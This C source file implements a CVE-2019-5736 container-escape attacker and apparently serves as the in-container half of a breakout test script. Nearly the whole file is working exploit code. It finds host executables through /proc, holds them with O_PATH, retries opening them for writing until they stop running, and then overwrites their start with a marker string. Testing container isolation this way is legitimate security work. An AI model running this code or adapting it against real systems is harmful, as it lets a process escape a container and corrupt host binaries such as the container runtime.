/* The CVE-2019-5736 attacker, run inside a container by test_breakout.sh.
 *
 *   exe_attack SECONDS
 *
 * For SECONDS it scans /proc for processes whose executable is not a file
 * of the container's own root (the link's path does not lead to the same
 * inode in here: a host binary, or a memfd), holds each with O_PATH, and
 * keeps trying to reopen it for writing through /proc/self/fd/N (the
 * binary is busy while it runs) and to write a marker into it. Prints one
 * line per event and a summary:
 *   summary seen=N held=N denied=N wrote=N
 * seen: foreign executables found; held: opened with O_PATH; denied: the
 * O_PATH open failed (EACCES/EPERM: not dumpable); wrote: a write into a
 * foreign executable succeeded (the attack worked). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXHELD 256
static int held[MAXHELD];
static int nheld;
static long seen, denied, wrote;
static int self_pid;

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int foreign(int fd, const char *target) {
  struct stat a, b;
  if (fstat(fd, &a) < 0) return 0;
  /* a path inside our root leading to the same file: our own binary */
  if (target[0] == '/' && stat(target, &b) == 0 && a.st_ino == b.st_ino && a.st_dev == b.st_dev) return 0;
  for (int i = 0; i < nheld; i++) {
    struct stat h;
    if (fstat(held[i], &h) == 0 && h.st_ino == a.st_ino && h.st_dev == a.st_dev) return 0; /* held already */
  }
  return 1;
}

static void scan(void) {
  DIR *d = opendir("/proc");
  if (!d) return;
  struct dirent *e;
  while ((e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == self_pid) continue;
    char p[64], target[4096];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    ssize_t n = readlink(p, target, sizeof target - 1);
    int fd = open(p, O_PATH | O_CLOEXEC);
    if (fd < 0) {
      if (errno == EACCES || errno == EPERM) {
        if (denied++ < 5) printf("denied pid=%d errno=%s\n", pid, strerrorname_np(errno) ?: "?");
      }
      continue;
    }
    /* the link read before the open: a process that exec'd or ended in
     * between could leave us holding a file of our own root */
    char again[4096];
    ssize_t m = readlink(p, again, sizeof again - 1);
    if (n <= 0 || m != n || memcmp(target, again, (size_t)n)) {
      close(fd);
      continue;
    }
    target[n] = '\0';
    if (nheld < MAXHELD && foreign(fd, target)) {
      seen++;
      printf("held pid=%d exe=%s\n", pid, target);
      held[nheld++] = fd;
    } else close(fd);
  }
  closedir(d);
}

static void try_write(void) {
  for (int i = 0; i < nheld; i++) {
    if (held[i] < 0) continue;
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
      if (errno == ETXTBSY) continue; /* still running: try again */
      printf("reopen fd=%d errno=%s\n", held[i], strerrorname_np(errno) ?: "?");
      close(held[i]);
      held[i] = -1;
      continue;
    }
    if (pwrite(w, "PWNED-BY-CONTAINER", 18, 0) == 18) {
      wrote++;
      printf("WROTE into %s\n", p);
    } else printf("write fd=%d errno=%s\n", held[i], strerrorname_np(errno) ?: "?");
    close(w);
    close(held[i]);
    held[i] = -1;
  }
}

int main(int argc, char **argv) {
  double secs = argc > 1 ? atof(argv[1]) : 5;
  self_pid = getpid();
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("attacker ready\n");
  for (double end = now() + secs; now() < end;) {
    scan();
    try_write();
  }
  long held_n = 0;
  for (int i = 0; i < nheld; i++) held_n++;
  printf("summary seen=%ld held=%ld denied=%ld wrote=%ld\n", seen, held_n, denied, wrote);
  return 0;
}
